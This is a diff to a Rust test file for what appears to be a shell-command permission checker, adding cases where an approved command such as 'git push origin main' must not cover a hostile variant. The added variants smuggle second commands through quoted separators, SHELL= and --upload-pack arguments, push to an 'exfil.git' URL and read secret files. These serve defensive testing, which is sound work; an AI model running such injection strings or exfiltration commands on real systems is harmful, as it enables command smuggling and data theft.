@@ -13,6 +13,7 @@ fn places() -> Places {
         cwd: PathBuf::from("/work/p"),
         project_root: PathBuf::from("/work/p"),
         home: Some(PathBuf::from("/work")),
+        config_dir: None,
     }
 }
 
@@ -162,6 +163,23 @@ fn always_covers_the_same_program_with_no_new_option() {
             "rbash -c 'echo hi'",
             "echo 'cp /etc/hostname x' | rbash -c 'echo hi'",
         ),
+        // The third review's: a quote spanning a separator, URLs, a move elsewhere.
+        ("cat a.txt", "cat 'a;cat b' /opt/secret.txt"),
+        (
+            "make test",
+            "make test 'x;make test y #' \"SHELL=/bin/sh -c 'touch pwned' #\"",
+        ),
+        (
+            "git fetch origin",
+            "git fetch 'x;git fetch y' --upload-pack 'touch pwned'",
+        ),
+        (
+            "git push origin main",
+            "git push git://127.0.0.1:19418/exfil.git main",
+        ),
+        ("git log -1", "git log -1 file:///opt/evil"),
+        ("cd /opt && ls", "cd /opt && ls secret"),
+        ("cat a.txt", "cd /opt && cat secret.txt"),
     ] {
         assert!(!covers(approved, attack), "{approved} then {attack}");
     }
